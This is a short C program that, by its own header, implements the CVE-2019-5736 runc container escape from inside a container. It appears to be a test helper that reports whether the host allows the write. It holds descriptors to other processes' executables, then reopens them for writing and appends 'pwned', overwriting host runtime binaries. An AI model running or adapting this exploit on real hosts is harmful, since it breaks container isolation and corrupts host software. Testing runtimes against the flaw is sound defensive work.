/*
 * exewatch STOPFILE: the CVE-2019-5736 attacker, from inside a container.
 * Until STOPFILE exists (60 s at most) it opens /proc/PID/exe of every
 * other process whose program is neither busybox nor itself and keeps an
 * O_PATH descriptor ("held PID TARGET"; a readable one would deny writes
 * on recent kernels). Then, those processes being gone, it reopens each
 * kept descriptor for writing through /proc/self/fd/N and appends to it
 * ("WROTE TARGET" on success, "refused TARGET: ERROR" otherwise). It
 * prints "watching" once it has started.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include "watch.h"

#define MAX_HELD 16

struct held {
	int fds[MAX_HELD], n;
	char self[4096];
};

static int hold(int pid, void *ctx)
{
	struct held *h = ctx;
	char name[64], target[4096];
	ssize_t len;
	int fd;

	if (h->n >= MAX_HELD)
		return 1;
	snprintf(name, sizeof name, "/proc/%d/exe", pid);
	len = readlink(name, target, sizeof target - 1);
	if (len <= 0)
		return 0;
	target[len] = 0;
	if (!strcmp(target, h->self) || strstr(target, "busybox"))
		return 0;
	fd = open(name, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return 0;
	h->fds[h->n++] = fd;
	printf("held %d %s\n", pid, target);
	fflush(stdout);
	return 0;
}

int main(int argc, char **argv)
{
	static struct held h;
	char name[64], target[4096];
	int i;

	if (argc < 2)
		return 2;
	if (readlink("/proc/self/exe", h.self, sizeof h.self - 1) < 0)
		return 2;
	if (watch_processes(argv[1], hold, &h))
		return 2;
	for (i = 0; i < h.n; i++) {
		int fd;

		snprintf(name, sizeof name, "/proc/self/fd/%d", h.fds[i]);
		if (readlink(name, target, sizeof target - 1) < 0)
			strcpy(target, "?");
		else
			target[strcspn(target, "\n")] = 0;
		fd = open(name, O_WRONLY | O_APPEND);
		if (fd >= 0 && write(fd, "pwned\n", 6) == 6)
			printf("WROTE %s\n", target);
		else
			printf("refused %s: %s\n", target, strerror(errno));
	}
	return 0;
}
